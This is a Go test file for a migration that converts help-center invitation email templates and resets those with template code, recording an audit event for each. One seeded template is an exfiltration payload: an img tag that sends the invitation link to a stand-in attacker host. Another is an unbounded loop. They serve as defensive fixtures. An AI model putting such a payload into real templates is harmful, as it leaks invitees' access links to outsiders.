package migrations_test

import (
	"context"
	"encoding/json"
	"testing"

	"github.com/portalaccess/portal"
	"github.com/portalaccess/portal/migrations"
)

const safeTemplates = "20261129000100"

// TestSafeTemplatesConvertsPlainTemplatesAndResetsCodeWithANote seeds
// help centers with templates as admins wrote them before, Go template
// code included, and migrates them: plain ones become the new form, the
// rest return to the default, and each leaves an audit event with the
// old text.
func TestSafeTemplatesConvertsPlainTemplatesAndResetsCodeWithANote(t *testing.T) {
	st := migratedUpTo(t, safeTemplates)
	ctx := context.Background()
	seed := map[string]string{
		"plain":        `{"subject": "Join {{.HelpCenter}}", "body": "Hello {{if .Name}}{{.Name}}{{else}}there{{end}},\n\n{{ .HelpCenter }} invites you. Open this link:\n{{.Link}}\n\nValid until {{.ExpiresAt}}."}`,
		"exfiltration": `{"subject": "Join", "body": "<img src=\"https://evil.example/?t={{.Link}}\"> {{.Link}}"}`,
		"loop":         `{"subject": "Join", "body": "{{range $i := .Big}}x{{end}} {{.Link}}"}`,
		"portal-url":   `{"subject": "Join", "body": "{{.PortalURL}} {{.Link}}"}`,
		"untouched":    ``,
	}
	ids := map[string]int64{}
	for slug, tmpl := range seed {
		var value any
		if tmpl != "" {
			value = tmpl
		}
		var id int64
		if err := st.DB.NewRaw(`INSERT INTO help_centers (slug, name, user_base, invite_policy, email_template)
			VALUES (?, 'Acme', 'unique', '{}', ?::jsonb) RETURNING id`, slug, value).Scan(ctx, &id); err != nil {
			t.Fatalf("seed %s: %v", slug, err)
		}
		ids[slug] = id
	}

	if _, err := migrations.Up(ctx, st.DB); err != nil {
		t.Fatal(err)
	}

	template := func(slug string) *portal.EmailTemplate {
		var raw []byte
		if err := st.DB.NewRaw(`SELECT email_template FROM help_centers WHERE id = ?`, ids[slug]).Scan(ctx, &raw); err != nil {
			t.Fatal(err)
		}
		if raw == nil {
			return nil
		}
		var tmpl portal.EmailTemplate
		if err := json.Unmarshal(raw, &tmpl); err != nil {
			t.Fatal(err)
		}
		return &tmpl
	}
	got := template("plain")
	want := portal.EmailTemplate{Subject: "Join {{help_center}}", Heading: "Join {{help_center}}",
		Paragraphs:  []string{"Hello {{name}},", "{{help_center}} invites you. Open this link:", "Valid until {{expires_at}}."},
		ButtonLabel: "Accept invitation"}
	if got == nil || !got.Equal(want) {
		t.Fatalf("converted template %+v, want %+v", got, want)
	}
	for _, slug := range []string{"exfiltration", "loop", "portal-url", "untouched"} {
		if got := template(slug); got != nil {
			t.Errorf("%s: template %+v, want the default (NULL)", slug, got)
		}
	}

	type note struct {
		Outcome string          `json:"outcome"`
		Reason  string          `json:"reason"`
		Legacy  json.RawMessage `json:"legacy"`
	}
	notes := map[int64]note{}
	var rows []struct {
		HelpCenterID int64  `bun:"help_center_id"`
		Actor        string `bun:"actor"`
		Target       string `bun:"target"`
		Details      []byte `bun:"details"`
	}
	if err := st.DB.NewRaw(`SELECT help_center_id, actor, target, details FROM audit_events WHERE action = ?`,
		portal.AuditTemplateMigrated).Scan(ctx, &rows); err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		var n note
		if err := json.Unmarshal(r.Details, &n); err != nil {
			t.Fatal(err)
		}
		if r.Actor != portal.ActorSystem || r.Target != portal.Target("help_center", r.HelpCenterID) {
			t.Errorf("event %+v", r)
		}
		notes[r.HelpCenterID] = n
	}
	if len(notes) != 4 {
		t.Fatalf("%d migration events, want 4 (one per stored template): %+v", len(notes), notes)
	}
	if n := notes[ids["plain"]]; n.Outcome != "converted" {
		t.Errorf("plain: %+v", n)
	}
	for _, slug := range []string{"exfiltration", "loop", "portal-url"} {
		n := notes[ids[slug]]
		var legacy struct{ Body string }
		if err := json.Unmarshal(n.Legacy, &legacy); err != nil {
			t.Fatal(err)
		}
		if n.Outcome != "reset" || n.Reason == "" || legacy.Body == "" {
			t.Errorf("%s: %+v", slug, n)
		}
	}
}
